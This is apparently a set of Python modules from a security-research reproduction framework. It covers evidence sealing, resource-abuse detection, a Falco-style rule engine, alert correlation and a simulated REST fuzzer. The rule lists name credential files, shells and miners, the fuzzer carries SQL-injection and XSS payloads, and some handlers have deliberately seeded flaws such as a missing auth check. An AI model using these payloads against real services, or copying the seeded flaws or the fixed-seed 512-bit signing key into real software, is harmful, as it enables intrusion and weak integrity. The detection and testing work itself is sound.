    def __init__(self, bus: EventBus,
                 signing_keypair: Optional[crypto.RsaKeyPair] = None,
                 margin_s: float = 60.0) -> None:
        self.bus = bus
        self.keypair = signing_keypair or crypto.RsaKeyPair.generate(
            bits=512, seed=0xF04E)
        self.margin_s = margin_s

    def _event_involves(self, event: Event, key: str) -> bool:
        if event.source == key:
            return True
        return any(str(value) == key for value in event.payload.values())

    def collect(self, incident: Incident,
                fim_findings: Sequence[object] = ()) -> EvidenceBundle:
        """Assemble and seal the bundle for one incident."""
        start = incident.started_at - self.margin_s
        end = incident.ended_at + self.margin_s
        events = [
            {"topic": event.topic, "source": event.source,
             "timestamp": event.timestamp,
             "payload": {k: str(v) for k, v in sorted(event.payload.items())}}
            # since= pre-filters at the bus, so only the incident window's
            # tail is rescanned instead of the full retained history.
            for event in self.bus.history(since=start)
            if event.timestamp <= end
            and self._event_involves(event, incident.key)
        ]
        alerts = [
            {"rule": alert.rule, "priority": alert.priority.name,
             "timestamp": alert.timestamp, "summary": alert.summary}
            for alert in incident.alerts
        ]
        integrity = [
            {"path": getattr(f, "path", ""),
             "change": getattr(f, "change", ""),
             "mutable": getattr(f, "mutable", False)}
            for f in fim_findings
        ]
        bundle = EvidenceBundle(
            incident_key=incident.key,
            window={"start": start, "end": end},
            alerts=alerts, events=events, integrity_findings=integrity)
        bundle.digest = crypto.sha256_hex(bundle.canonical_bytes())
        bundle.signature = self.keypair.sign(bundle.canonical_bytes())
        return bundle

    def verify(self, bundle: EvidenceBundle) -> None:
        """Chain-of-custody check before the bundle is relied upon.

        :raises IntegrityError: content no longer matches digest/signature.
        """
        body = bundle.canonical_bytes()
        if crypto.sha256_hex(body) != bundle.digest:
            raise IntegrityError(
                f"evidence bundle for {bundle.incident_key}: digest mismatch")
        if not self.keypair.public.verify(body, bundle.signature):
            raise IntegrityError(
                f"evidence bundle for {bundle.incident_key}: bad signature")

"""Resource-abuse detection (the T8 'monopolizing resources' case).

The Falco engine sees syscalls; resource abuse shows up in utilization,
so GENIO pairs it with a sampler that watches per-container consumption
against fair-share expectations and flags tenants that monopolize the
node. Detection feeds the same alert stream; *enforcement* is limits
(:class:`~repro.virt.container.ResourceLimits`) plus eviction.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.virt.runtime import ContainerRuntime


@dataclass
class AbuseFinding:
    """One over-consumption observation."""

    container_id: str
    tenant: str
    cpu_share: float          # fraction of node CPU consumed
    memory_share: float
    fair_share: float         # 1 / number of running containers
    detail: str = ""


class ResourceAbuseDetector:
    """Samples a runtime and flags containers far above fair share."""

    def __init__(self, runtime: ContainerRuntime,
                 tolerance: float = 2.0) -> None:
        if tolerance < 1.0:
            raise ValueError("tolerance must be >= 1.0")
        self.runtime = runtime
        self.tolerance = tolerance
        self.findings: List[AbuseFinding] = []

    def sample(self) -> List[AbuseFinding]:
        """One sampling pass; returns (and records) current findings."""
        running = self.runtime.running_containers()
        if not running:
            return []
        fair = 1.0 / len(running)
        current: List[AbuseFinding] = []
        for container in running:
            cpu_share = (container.cpu_used / self.runtime.cpu_capacity
                         if self.runtime.cpu_capacity else 0.0)
            memory_share = (container.memory_used_mb
                            / self.runtime.memory_capacity_mb
                            if self.runtime.memory_capacity_mb else 0.0)
            worst = max(cpu_share, memory_share)
            if len(running) > 1 and worst > fair * self.tolerance:
                current.append(AbuseFinding(
                    container_id=container.id, tenant=container.tenant,
                    cpu_share=round(cpu_share, 4),
                    memory_share=round(memory_share, 4),
                    fair_share=round(fair, 4),
                    detail=(f"consuming {worst:.0%} of node vs fair share "
                            f"{fair:.0%} (tolerance x{self.tolerance})")))
        self.findings.extend(current)
        return current

    def evict_offenders(self) -> List[str]:
        """Kill currently-flagged containers; returns their ids."""
        evicted = []
        for finding in self.sample():
            self.runtime.kill(finding.container_id,
                              f"resource abuse: {finding.detail}")
            evicted.append(finding.container_id)
        return evicted

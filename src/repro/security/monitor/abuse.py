"""Resource-abuse detection (the T8 'monopolizing resources' case).

The Falco engine sees syscalls; resource abuse shows up in utilization.
GENIO pairs it with a detector that watches per-tenant consumption
against fair-share expectations and flags tenants that monopolize the
node or the PON upstream. Two sampling paths feed the same findings:

* **metrics path** (:meth:`ResourceAbuseDetector.sample_metrics`, the
  primary one) — reads tenant-labelled share gauges from the telemetry
  registry (``traffic_tenant_offered_share`` published by the traffic
  plane, ``runtime_tenant_cpu_share`` published by
  :class:`repro.traffic.telemetry.TrafficTelemetry.observe_runtime`),
  so detection runs off the same substrate dashboards scrape;
* **runtime path** (:meth:`ResourceAbuseDetector.sample`, the fallback)
  — directly samples a :class:`~repro.virt.runtime.ContainerRuntime`'s
  per-container consumption when no registry is wired up.

Both paths flag on two rules: relative (share above fair share x
tolerance, needs at least two peers to define "fair") and absolute
(share above ``absolute_cap`` regardless of peer count — a single tenant
saturating a node is abuse even with nobody to compare against).
``persistence`` requires a tenant to breach on that many *consecutive*
sampling passes before it is flagged — the alert-fatigue knob: a bursty
but well-behaved tenant briefly spikes above 2x fair share, a flooder
stays there pass after pass.

When a bus is attached, each finding is also published as a
``monitor.alert`` event (rule ``resource_abuse``) with a ``tenant=``
token in its summary, so :class:`~repro.security.monitor.correlate.
LiveCorrelator` folds abuse into the same incident stream as Falco
rules. Detection feeds alerts; *enforcement* is limits
(:class:`~repro.virt.container.ResourceLimits`), QoS policing
(:mod:`repro.traffic.qos`) and eviction.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

from repro.common import telemetry
from repro.common.events import EventBus
from repro.security.monitor.falco import Priority
from repro.virt.runtime import ContainerRuntime

# Gauge families the metrics path scans, in scan order. Plain strings on
# purpose: the monitor layer must not import the traffic plane (which
# sits above it); the names are pinned by tests on both sides.
DEFAULT_SHARE_METRICS: Tuple[str, ...] = (
    "traffic_tenant_offered_share",
    "runtime_tenant_cpu_share",
)


@dataclass
class AbuseFinding:
    """One over-consumption observation."""

    container_id: str
    tenant: str
    cpu_share: float          # fraction of node CPU consumed
    memory_share: float
    fair_share: float         # 1 / number of peers sharing the resource
    detail: str = ""
    metric: str = ""          # source gauge family ("" = runtime sampling)
    bandwidth_share: float = 0.0   # fraction of offered/delivered upstream

    @property
    def worst_share(self) -> float:
        return max(self.cpu_share, self.memory_share, self.bandwidth_share)


class ResourceAbuseDetector:
    """Flags tenants far above fair share, from metrics or a runtime.

    ``runtime`` may be omitted when only the metrics path is used;
    ``registry`` defaults to the process-wide telemetry registry at each
    sampling pass (so a detector built early still sees later metrics).
    """

    def __init__(self, runtime: Optional[ContainerRuntime] = None,
                 tolerance: float = 2.0,
                 absolute_cap: float = 0.9,
                 registry: Optional[telemetry.MetricsRegistry] = None,
                 share_metrics: Sequence[str] = DEFAULT_SHARE_METRICS,
                 bus: Optional[EventBus] = None,
                 persistence: int = 1) -> None:
        if tolerance < 1.0:
            raise ValueError("tolerance must be >= 1.0")
        if not 0.0 < absolute_cap <= 1.0:
            raise ValueError("absolute_cap must be in (0, 1]")
        if persistence < 1:
            raise ValueError("persistence must be >= 1")
        self.runtime = runtime
        self.tolerance = tolerance
        self.absolute_cap = absolute_cap
        self.share_metrics = tuple(share_metrics)
        self._registry = registry
        self._bus = bus
        self.persistence = persistence
        self._streaks: dict = {}
        self.findings: List[AbuseFinding] = []

    # -- the metrics path (primary) ---------------------------------------------

    def sample_metrics(self, now: float = 0.0) -> List[AbuseFinding]:
        """Scan tenant-share gauges in the registry; flag noisy neighbours.

        Each family in :attr:`share_metrics` that exists, is a gauge and
        is labelled exactly by ``tenant`` is judged independently: fair
        share is ``1/n`` over the tenants present in that family.
        """
        registry = self._registry if self._registry is not None \
            else telemetry.active_registry()
        if registry is None:
            return []
        current: List[AbuseFinding] = []
        for name in self.share_metrics:
            if name not in registry:
                continue
            family = registry.get(name)
            if family.kind != "gauge" or family.labelnames != ("tenant",):
                continue
            samples = {key[0]: child.value
                       for key, child in family.samples.items()}
            if not samples:
                continue
            fair = 1.0 / len(samples)
            for tenant, share in sorted(samples.items()):
                reason = self._judge(share, fair, peers=len(samples))
                if reason is None:
                    continue
                is_cpu = "cpu" in name
                current.append(AbuseFinding(
                    container_id=f"metric:{name}", tenant=tenant,
                    cpu_share=round(share, 4) if is_cpu else 0.0,
                    memory_share=0.0,
                    bandwidth_share=0.0 if is_cpu else round(share, 4),
                    fair_share=round(fair, 4),
                    metric=name,
                    detail=(f"{name}{{tenant={tenant}}} at {share:.0%} "
                            f"vs fair share {fair:.0%}: {reason}")))
        current = self._persist(current)
        self._record(current, now)
        return current

    def schedule_sampling(self, scheduler, interval_s: float,
                          until: Optional[float] = None):
        """Register periodic metrics sampling on a sim scheduler.

        ``scheduler`` is duck-typed (anything with ``every``/``now``) so
        the monitor layer stays import-light. Each firing runs
        :meth:`sample_metrics` stamped with the scheduler's own time.
        """
        return scheduler.every(
            interval_s,
            lambda: self.sample_metrics(now=scheduler.now),
            name="abuse-detector/sample", until=until)

    # -- the runtime path (fallback) --------------------------------------------

    def sample(self, now: float = 0.0) -> List[AbuseFinding]:
        """One direct runtime sampling pass; returns current findings."""
        if self.runtime is None:
            raise ValueError("no runtime attached; use sample_metrics()")
        running = self.runtime.running_containers()
        if not running:
            return []
        fair = 1.0 / len(running)
        current: List[AbuseFinding] = []
        for container in running:
            cpu_share = (container.cpu_used / self.runtime.cpu_capacity
                         if self.runtime.cpu_capacity else 0.0)
            memory_share = (container.memory_used_mb
                            / self.runtime.memory_capacity_mb
                            if self.runtime.memory_capacity_mb else 0.0)
            worst = max(cpu_share, memory_share)
            reason = self._judge(worst, fair, peers=len(running))
            if reason is not None:
                current.append(AbuseFinding(
                    container_id=container.id, tenant=container.tenant,
                    cpu_share=round(cpu_share, 4),
                    memory_share=round(memory_share, 4),
                    fair_share=round(fair, 4),
                    detail=(f"consuming {worst:.0%} of node vs fair share "
                            f"{fair:.0%}: {reason}")))
        current = self._persist(current)
        self._record(current, now)
        return current

    def evict_offenders(self) -> List[str]:
        """Kill currently-flagged containers; returns their ids."""
        evicted = []
        for finding in self.sample():
            self.runtime.kill(finding.container_id,
                              f"resource abuse: {finding.detail}")
            evicted.append(finding.container_id)
        return evicted

    # -- shared judgement --------------------------------------------------------

    def _persist(self, current: List[AbuseFinding]) -> List[AbuseFinding]:
        """Keep only tenants breaching ``persistence`` passes in a row."""
        if self.persistence == 1:
            return current
        breached = {finding.tenant for finding in current}
        for tenant in list(self._streaks):
            if tenant not in breached:
                del self._streaks[tenant]
        for tenant in breached:
            self._streaks[tenant] = self._streaks.get(tenant, 0) + 1
        return [finding for finding in current
                if self._streaks[finding.tenant] >= self.persistence]

    def _judge(self, share: float, fair: float,
               peers: int) -> Optional[str]:
        """The flagging rule; returns the reason, or None when within bounds.

        The absolute cap closes the single-container blind spot: with one
        running container there are no peers to define fair share, but a
        tenant saturating the node is abusive regardless.
        """
        if share > self.absolute_cap:
            return (f"exceeds absolute cap {self.absolute_cap:.0%} "
                    f"(saturation, independent of peer count)")
        if peers > 1 and share > fair * self.tolerance:
            return f"exceeds fair share x{self.tolerance} tolerance"
        return None

    def _record(self, current: List[AbuseFinding], now: float) -> None:
        self.findings.extend(current)
        if self._bus is None:
            return
        for finding in current:
            severity = (Priority.CRITICAL
                        if finding.worst_share > self.absolute_cap
                        else Priority.WARNING)
            self._bus.emit(
                "monitor.alert", "abuse-detector", now,
                rule="resource_abuse", priority=int(severity),
                alert_source=finding.metric or finding.container_id,
                summary=(f"tenant={finding.tenant} resource abuse: "
                         f"{finding.detail}"))

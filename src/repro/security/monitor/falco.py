"""Falco-style runtime monitoring engine (M18).

Consumes the event streams the substrates publish (container syscalls,
host file mutations, logins, control-plane audit) and evaluates them
against a customizable rule set — observing *without blocking*, exactly
as the paper contrasts Falco with signature scanners and sandboxes.

Lesson 8's two tensions are first-class:

* **tuning**: every rule carries exception predicates; the experiments
  show the default rules alert on benign operational behaviour (e.g. an
  operator exec'ing a debug shell) until exceptions are added, and that
  over-broad exceptions then miss real attacks;
* **overhead**: the engine counts events and rule evaluations, and
  :meth:`FalcoEngine.overhead_estimate` converts them into a relative
  cost; the E12 bench also measures real wall-clock overhead.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.common import telemetry
from repro.common.events import Event, EventBus

Condition = Callable[[Event], bool]


class Priority(enum.IntEnum):
    NOTICE = 1
    WARNING = 2
    ERROR = 3
    CRITICAL = 4


@dataclass
class FalcoRule:
    """One detection rule."""

    name: str
    description: str
    topics: Tuple[str, ...]
    condition: Condition
    priority: Priority = Priority.WARNING
    exceptions: List[Condition] = field(default_factory=list)

    def applies_to(self, topic: str) -> bool:
        return any(topic == t or topic.startswith(t + ".")
                   for t in self.topics)

    def evaluate(self, event: Event) -> bool:
        if not self.condition(event):
            return False
        return not any(exception(event) for exception in self.exceptions)

    def add_exception(self, exception: Condition) -> None:
        """Tuning: suppress matches the operator has vetted as benign."""
        self.exceptions.append(exception)


@dataclass
class Alert:
    """One fired detection."""

    rule: str
    priority: Priority
    timestamp: float
    source: str
    summary: str


class FalcoEngine:
    """The monitoring engine attached to an event bus.

    With ``publish_alerts=True`` every fired alert is also re-published on
    the bus under the ``monitor.alert`` topic, so downstream consumers
    (the live correlator, dashboards) can subscribe instead of polling
    ``engine.alerts``. The engine never evaluates its own alert events
    (no feedback loop): ``monitor.*`` topics are excluded from handling.
    """

    def __init__(self, rules: Optional[Sequence[FalcoRule]] = None,
                 publish_alerts: bool = False) -> None:
        self.rules = list(rules if rules is not None else default_rules())
        self.alerts: List[Alert] = []
        self.events_processed = 0
        self.rule_evaluations = 0
        self.rule_errors: Dict[str, int] = {}
        self.publish_alerts = publish_alerts
        self._bus: Optional[EventBus] = None
        self._unsubscribe: Optional[Callable[[], None]] = None
        metrics = telemetry.active_registry()
        self._metrics = metrics
        if metrics is not None:
            self._events_counter = metrics.counter(
                "falco_events_total", "Events seen by the runtime monitor.")
            self._evaluations_counter = metrics.counter(
                "falco_rule_evaluations_total", "Rule condition evaluations.")
            self._alerts_counter = metrics.counter(
                "falco_alerts_total", "Alerts fired, by rule.", ("rule",))
            self._errors_counter = metrics.counter(
                "falco_rule_errors_total", "Broken-rule exceptions, by rule.",
                ("rule",))

    # -- lifecycle -------------------------------------------------------------

    def attach(self, bus: EventBus) -> None:
        if self._unsubscribe is not None:
            raise ValueError("engine already attached")
        self._bus = bus
        self._unsubscribe = bus.subscribe(
            "", self._handle,
            predicate=lambda e: not e.topic.startswith("monitor."))

    def detach(self) -> None:
        if self._unsubscribe is not None:
            self._unsubscribe()
            self._unsubscribe = None
            self._bus = None

    def rule(self, name: str) -> FalcoRule:
        for rule in self.rules:
            if rule.name == name:
                return rule
        raise KeyError(f"no rule named {name!r}")

    # -- the hot path ------------------------------------------------------------

    def _handle(self, event: Event) -> None:
        self.events_processed += 1
        metrics = self._metrics
        if metrics is not None:
            self._events_counter.inc()
        for rule in self.rules:
            if not rule.applies_to(event.topic):
                continue
            self.rule_evaluations += 1
            if metrics is not None:
                self._evaluations_counter.inc()
            try:
                fired = rule.evaluate(event)
            except Exception:
                # A broken (operator-tuned) rule must never take down the
                # mediation path it observes — count it and keep going.
                self.rule_errors[rule.name] = \
                    self.rule_errors.get(rule.name, 0) + 1
                if metrics is not None:
                    self._errors_counter.inc(rule=rule.name)
                continue
            if fired:
                alert = Alert(
                    rule=rule.name, priority=rule.priority,
                    timestamp=event.timestamp, source=event.source,
                    summary=self._summarize(event))
                self.alerts.append(alert)
                if metrics is not None:
                    self._alerts_counter.inc(rule=rule.name)
                if self.publish_alerts and self._bus is not None:
                    self._bus.emit(
                        "monitor.alert", "falco", alert.timestamp,
                        rule=alert.rule, priority=int(alert.priority),
                        alert_source=alert.source, summary=alert.summary)

    @staticmethod
    def _summarize(event: Event) -> str:
        interesting = {k: v for k, v in event.payload.items()
                       if k in ("syscall", "path", "process", "dst", "user",
                                "container", "tenant", "op", "actor",
                                "principal", "verb", "resource")}
        details = " ".join(f"{k}={v}" for k, v in sorted(interesting.items()))
        return f"{event.topic}: {details}"

    def schedule_stats(self, scheduler, interval_s: float,
                       until: Optional[float] = None):
        """Publish periodic ``monitor.stats`` heartbeats on the bus.

        The engine itself stays event-driven; this registers the *stats
        cadence* as a sim-scheduler task (duck-typed: anything with
        ``every``/``now``), so dashboards see a regular snapshot of
        events/evaluations/alerts without anyone polling the engine.
        """
        def publish() -> None:
            if self._bus is None:
                return
            self._bus.emit(
                "monitor.stats", "falco", scheduler.now,
                events_processed=self.events_processed,
                rule_evaluations=self.rule_evaluations,
                alerts=len(self.alerts))

        return scheduler.every(interval_s, publish,
                               name="falco/stats", until=until)

    # -- analysis -----------------------------------------------------------------

    def alerts_by_rule(self) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for alert in self.alerts:
            counts[alert.rule] = counts.get(alert.rule, 0) + 1
        return counts

    def alerts_at_least(self, priority: Priority) -> List[Alert]:
        return [a for a in self.alerts if a.priority >= priority]

    def overhead_estimate(self, cost_per_evaluation_us: float = 2.0) -> float:
        """Estimated CPU microseconds spent evaluating rules so far."""
        return self.rule_evaluations * cost_per_evaluation_us

    def reset_counters(self) -> None:
        self.alerts.clear()
        self.events_processed = 0
        self.rule_evaluations = 0


# ---------------------------------------------------------------------------
# The default GENIO rule set
# ---------------------------------------------------------------------------

_SHELLS = ("/bin/sh", "/bin/bash", "/bin/dash", "/usr/bin/zsh")
_MINERS = ("xmrig", "minerd", "cpuminer")
_SENSITIVE_READS = ("/etc/shadow", "/root/.ssh/id_rsa", "/etc/kubernetes/pki")
_EXPECTED_NETWORKS = ("10.", "registry.genio.example")


def default_rules() -> List[FalcoRule]:
    """Detection rules for the behaviours Section VI-B names."""
    return [
        FalcoRule(
            name="shell_in_container",
            description="a shell was spawned inside a container",
            topics=("runtime.syscall",),
            condition=lambda e: (e.get("syscall") in ("execve", "execveat")
                                 and str(e.get("path", "")) in _SHELLS),
            priority=Priority.WARNING),
        FalcoRule(
            name="write_below_etc",
            description="write below /etc from a workload",
            topics=("host.file",),
            condition=lambda e: (e.get("op") == "write"
                                 and str(e.get("path", "")).startswith("/etc/")
                                 and e.get("actor") != "root"),
            priority=Priority.ERROR),
        FalcoRule(
            name="sensitive_file_read",
            description="read of credential material",
            topics=("runtime.syscall", "host.syscall"),
            condition=lambda e: (e.get("syscall") in ("open", "openat", "read")
                                 and any(str(e.get("path", "")).startswith(p)
                                         for p in _SENSITIVE_READS)),
            priority=Priority.CRITICAL),
        FalcoRule(
            name="unexpected_outbound",
            description="outbound connection to an unexpected destination",
            topics=("runtime.syscall",),
            condition=lambda e: (e.get("syscall") in ("connect", "sendto")
                                 and bool(e.get("dst"))
                                 and not any(str(e.get("dst", "")).startswith(p)
                                             for p in _EXPECTED_NETWORKS)),
            priority=Priority.ERROR),
        FalcoRule(
            name="privileged_syscall_attempt",
            description="container attempted a kernel-surface syscall",
            topics=("runtime.syscall",),
            condition=lambda e: e.get("syscall") in (
                "init_module", "finit_module", "kexec_load", "mount",
                "ptrace", "setns", "pivot_root"),
            priority=Priority.CRITICAL),
        FalcoRule(
            name="cryptominer_exec",
            description="known miner binary executed",
            topics=("runtime.syscall", "host.syscall"),
            condition=lambda e: (e.get("syscall") in ("execve", "execveat")
                                 and any(m in str(e.get("path", ""))
                                         for m in _MINERS)),
            priority=Priority.CRITICAL),
        FalcoRule(
            name="failed_login",
            description="failed interactive login",
            topics=("host.login",),
            condition=lambda e: e.get("success") is False,
            priority=Priority.NOTICE),
        FalcoRule(
            name="anonymous_control_plane_write",
            description="anonymous principal attempted a control-plane write",
            topics=("kube.audit",),
            condition=lambda e: ("anonymous" in str(e.get("principal", ""))
                                 and e.get("verb") in ("create", "update",
                                                       "patch", "delete")),
            priority=Priority.CRITICAL),
    ]

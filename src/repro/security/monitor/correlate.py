"""Alert correlation: from raw alerts to incidents (operational M18).

A rule-per-event stream is what Falco emits; operators reason in
*incidents*. The correlator groups alerts by (tenant, time window), maps
each rule to a kill-chain stage, and scores the incident by how far along
the chain the activity progressed — multi-stage incidents from one tenant
within a window are what warrant response, single NOTICE blips are not.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.common.events import Event, EventBus
from repro.security.monitor.falco import Alert, Priority

# Rule -> kill-chain stage (roughly: access -> execution -> escalation ->
# exfiltration). Unknown rules land in "anomaly".
RULE_STAGES: Dict[str, str] = {
    "failed_login": "access",
    "anonymous_control_plane_write": "access",
    "shell_in_container": "execution",
    "cryptominer_exec": "execution",
    "privileged_syscall_attempt": "escalation",
    "sensitive_file_read": "escalation",
    "write_below_etc": "persistence",
    "unexpected_outbound": "exfiltration",
    "resource_abuse": "execution",
}

_STAGE_ORDER = ("access", "execution", "escalation", "persistence",
                "exfiltration", "anomaly")


@dataclass
class Incident:
    """A correlated group of alerts."""

    key: str                      # tenant or source the alerts share
    started_at: float
    ended_at: float
    alerts: List[Alert] = field(default_factory=list)

    @property
    def stages(self) -> List[str]:
        seen = {RULE_STAGES.get(alert.rule, "anomaly")
                for alert in self.alerts}
        return [stage for stage in _STAGE_ORDER if stage in seen]

    @property
    def max_priority(self) -> Priority:
        return max(alert.priority for alert in self.alerts)

    @property
    def score(self) -> int:
        """Stage breadth x peak priority: multi-stage criticals dominate."""
        return len(self.stages) * int(self.max_priority)

    @property
    def is_campaign(self) -> bool:
        """Multiple kill-chain stages from one principal: a real attack."""
        return len(self.stages) >= 2

    def summary(self) -> str:
        return (f"incident[{self.key}] {len(self.alerts)} alerts, "
                f"stages {'->'.join(self.stages)}, "
                f"peak {self.max_priority.name}, score {self.score}")


def _alert_key(alert: Alert) -> str:
    for token in alert.summary.split():
        if token.startswith("tenant="):
            return token.split("=", 1)[1]
    return alert.source


def correlate(alerts: Sequence[Alert], window_s: float = 300.0) -> List[Incident]:
    """Group alerts into incidents by shared key within a time window."""
    if window_s <= 0:
        raise ValueError("window must be positive")
    incidents: List[Incident] = []
    open_incidents: Dict[str, Incident] = {}
    for alert in sorted(alerts, key=lambda a: a.timestamp):
        key = _alert_key(alert)
        incident = open_incidents.get(key)
        if incident is not None and alert.timestamp - incident.ended_at <= window_s:
            incident.alerts.append(alert)
            incident.ended_at = alert.timestamp
        else:
            incident = Incident(key=key, started_at=alert.timestamp,
                                ended_at=alert.timestamp, alerts=[alert])
            incidents.append(incident)
            open_incidents[key] = incident
    return sorted(incidents, key=lambda i: -i.score)


class LiveCorrelator:
    """Correlates alerts straight off the bus instead of polling the engine.

    Subscribes to the ``monitor.alert`` topic a
    :class:`~repro.security.monitor.falco.FalcoEngine` publishes when
    constructed with ``publish_alerts=True``, using the bus's
    ``predicate=`` delivery filter for the priority floor — no more
    re-filtering the engine's full alert list by hand on every pass.
    """

    def __init__(self, bus: EventBus, window_s: float = 300.0,
                 min_priority: Priority = Priority.NOTICE) -> None:
        if window_s <= 0:
            raise ValueError("window must be positive")
        self.window_s = window_s
        self.min_priority = min_priority
        self.alerts: List[Alert] = []
        self._unsubscribe: Callable[[], None] = bus.subscribe(
            "monitor.alert", self._ingest,
            predicate=lambda e: e.get("priority", 0) >= int(min_priority))

    def _ingest(self, event: Event) -> None:
        self.alerts.append(Alert(
            rule=str(event.get("rule", "")),
            priority=Priority(int(event.get("priority", Priority.NOTICE))),
            timestamp=event.timestamp,
            source=str(event.get("alert_source", event.source)),
            summary=str(event.get("summary", ""))))

    def incidents(self) -> List[Incident]:
        """Correlate everything ingested so far."""
        return correlate(self.alerts, window_s=self.window_s)

    def close(self) -> None:
        self._unsubscribe()


def triage(incidents: Sequence[Incident]) -> Dict[str, List[Incident]]:
    """Split incidents into what needs response now vs review later."""
    campaigns = [i for i in incidents if i.is_campaign]
    critical_blips = [i for i in incidents if not i.is_campaign
                      and i.max_priority >= Priority.CRITICAL]
    noise = [i for i in incidents if not i.is_campaign
             and i.max_priority < Priority.CRITICAL]
    return {"respond": campaigns + critical_blips, "review": noise}

"""Dynamic Application Security Testing (M15).

* :class:`RestService` — a runnable REST application described by an
  OpenAPI-style spec; endpoint behaviours (including seeded bugs) are
  what the fuzzer exercises.
* :class:`CatsFuzzer` — CATS-style: for every operation and parameter it
  injects malformed, unexpected and malicious inputs (empty, oversized,
  SQL metacharacters, script tags, wrong types, missing auth) and
  classifies responses: 5xx with a stack trace, acceptance of an
  unauthenticated privileged call, or reflected script content become
  findings. As Lesson 7 notes, this only works for workloads exposing
  standard REST interfaces — :meth:`CatsFuzzer.fuzz_image` reports
  non-REST images as unfuzzable.
* :class:`NmapScanner` — port/TLS audit of a deployed host's listeners.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.osmodel.host import Host
from repro.virt.image import ContainerImage


@dataclass
class Response:
    """One HTTP-ish response."""

    status: int
    body: str = ""

    @property
    def server_error(self) -> bool:
        return self.status >= 500


# A handler takes (params, authenticated) and returns a Response.
Handler = Callable[[Dict[str, str], bool], Response]


@dataclass
class Operation:
    """One OpenAPI operation."""

    method: str
    path: str
    params: Tuple[str, ...]
    requires_auth: bool
    handler: Handler


class RestService:
    """A running REST application instance."""

    def __init__(self, name: str, spec: Optional[dict] = None) -> None:
        self.name = name
        self.operations: List[Operation] = []
        self.requests_served = 0
        if spec:
            self._load_spec(spec)

    def add_operation(self, operation: Operation) -> None:
        self.operations.append(operation)

    def _load_spec(self, spec: dict) -> None:
        """Instantiate operations (with seeded bugs) from an OpenAPI-ish
        spec. The spec's ``x-vuln`` extension names the seeded defect so
        workload builders can construct realistically buggy services."""
        for path, methods in spec.get("paths", {}).items():
            for method, op in methods.items():
                params = tuple(p["name"] for p in op.get("parameters", []))
                requires_auth = bool(op.get("security"))
                vuln = op.get("x-vuln", "")
                self.add_operation(Operation(
                    method=method.upper(), path=path, params=params,
                    requires_auth=requires_auth,
                    handler=_make_handler(vuln, requires_auth)))

    def call(self, method: str, path: str, params: Dict[str, str],
             authenticated: bool = True) -> Response:
        self.requests_served += 1
        for operation in self.operations:
            if operation.method == method.upper() and operation.path == path:
                if operation.requires_auth and not authenticated:
                    # A *correct* service rejects; buggy handlers may not —
                    # the handler gets the final say so no-auth bugs exist.
                    return operation.handler(params, False)
                return operation.handler(params, True)
        return Response(404, "not found")


def _make_handler(vuln: str, requires_auth: bool) -> Handler:
    """Build a handler exhibiting the named seeded defect (or none)."""

    def handler(params: Dict[str, str], authenticated: bool) -> Response:
        if requires_auth and not authenticated:
            if vuln == "missing-auth-check":
                return Response(200, "admin action performed")   # the bug
            return Response(401, "authentication required")
        values = "".join(params.values())
        if vuln == "sqli" and ("'" in values or "--" in values):
            return Response(500, "Traceback: sqlite3.OperationalError: "
                                 "near \"'\": syntax error")
        if vuln == "xss" and "<script>" in values:
            return Response(200, f"<html>{values}</html>")       # reflected
        if vuln == "type-confusion":
            for value in params.values():
                if value and not value.lstrip("-").isdigit():
                    return Response(500, "Traceback: ValueError: invalid "
                                         "literal for int()")
        if vuln == "overflow" and any(len(v) > 4096 for v in params.values()):
            return Response(500, "Traceback: MemoryError")
        return Response(200, "ok")

    return handler


@dataclass
class FuzzFinding:
    """One fuzzer-confirmed runtime defect."""

    operation: str
    parameter: str
    payload_family: str
    evidence: str
    kind: str        # "server-error" | "auth-bypass" | "reflected-content"


@dataclass
class FuzzReport:
    """One fuzzing campaign."""

    service: str
    findings: List[FuzzFinding] = field(default_factory=list)
    requests_sent: int = 0
    fuzzable: bool = True
    note: str = ""


_PAYLOADS: List[Tuple[str, str]] = [
    ("empty", ""),
    ("oversized", "A" * 8192),
    ("sql-meta", "1' OR '1'='1' --"),
    ("script-tag", "<script>alert(1)</script>"),
    ("negative", "-1"),
    ("non-numeric", "not-a-number"),
    ("null-ish", "null"),
    ("unicode-abuse", "\u202e\ufeff\x00"),
]


class CatsFuzzer:
    """The CATS-style REST fuzzer."""

    def fuzz(self, service: RestService) -> FuzzReport:
        report = FuzzReport(service=service.name)
        for operation in service.operations:
            op_name = f"{operation.method} {operation.path}"
            # Auth-enforcement probe: call privileged ops unauthenticated.
            if operation.requires_auth:
                response = service.call(operation.method, operation.path,
                                        {p: "1" for p in operation.params},
                                        authenticated=False)
                report.requests_sent += 1
                if response.status == 200:
                    report.findings.append(FuzzFinding(
                        operation=op_name, parameter="<auth>",
                        payload_family="missing-token",
                        evidence=response.body, kind="auth-bypass"))
            # Input fuzzing per parameter.
            for parameter in operation.params:
                for family, payload in _PAYLOADS:
                    params = {p: "1" for p in operation.params}
                    params[parameter] = payload
                    response = service.call(operation.method, operation.path,
                                            params, authenticated=True)
                    report.requests_sent += 1
                    if response.server_error and "Traceback" in response.body:
                        report.findings.append(FuzzFinding(
                            operation=op_name, parameter=parameter,
                            payload_family=family,
                            evidence=response.body.splitlines()[0],
                            kind="server-error"))
                    elif payload and payload in response.body and "<script>" in payload:
                        report.findings.append(FuzzFinding(
                            operation=op_name, parameter=parameter,
                            payload_family=family,
                            evidence="payload reflected unescaped",
                            kind="reflected-content"))
        return report

    def fuzz_image(self, image: ContainerImage) -> FuzzReport:
        """Fuzz an image's REST surface, if it declares one.

        Lesson 7: fuzzing is feasible only for applications exposing
        standard interfaces; images without an OpenAPI spec are reported
        unfuzzable rather than silently skipped.
        """
        if not image.openapi_spec:
            return FuzzReport(service=image.reference, fuzzable=False,
                              note="no OpenAPI description: not fuzzable")
        service = RestService(image.reference, spec=image.openapi_spec)
        return self.fuzz(service)


# ---------------------------------------------------------------------------
# Nmap-style network audit
# ---------------------------------------------------------------------------

@dataclass
class PortFinding:
    """One port-audit observation."""

    port: int
    service: str
    tls: bool
    expected: bool


@dataclass
class PortScanReport:
    host: str
